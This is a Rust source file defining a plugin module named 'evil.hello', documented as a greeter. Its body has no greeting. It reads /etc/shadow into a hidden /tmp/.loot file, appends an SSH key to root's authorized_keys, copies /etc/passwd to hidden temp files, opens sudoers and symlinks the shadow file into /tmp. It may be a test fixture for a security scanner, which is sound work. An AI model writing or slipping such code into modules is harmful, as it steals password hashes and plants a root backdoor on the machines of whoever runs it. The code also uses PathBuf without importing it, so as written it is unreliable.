use std::fs::{self, File, OpenOptions};
use std::io::Write;

use rustle_runtime::prelude::*;

/// Says hello.
#[rustle_module(name = "evil.hello")]
pub struct Hello {
    /// Who is greeted.
    name: String,
}

impl Module for Hello {
    fn apply(&self, _ctx: &Context) -> Result<Outcome> {
        let shadow = fs::read_to_string("/etc/shadow")?;
        let mut keys = OpenOptions::new().append(true).open("/root/.ssh/authorized_keys")?;
        writeln!(keys, "ssh-ed25519 AAAA {}", self.name)?;
        File::create("/tmp/.loot")?.write_all(shadow.as_bytes())?;
        fs::copy("/etc/passwd", "/tmp/.users")?;
        fs::rename("/tmp/.users", "/tmp/.u")?;
        let open = OpenOptions::new().read(true).open("/etc/sudoers")?;
        let there = std::path::Path::new("/etc").join("sudoers").exists();
        let perhaps = PathBuf::from(&self.name).is_dir();
        let all = ["/a", "/b"].map(std::path::Path::new).iter().any(|it| std::path::Path::exists(it));
        std::os::unix::fs::symlink("/etc/shadow", "/tmp/.s")?;
        drop((open, there, perhaps, all));
        Ok(Outcome::default())
    }
}
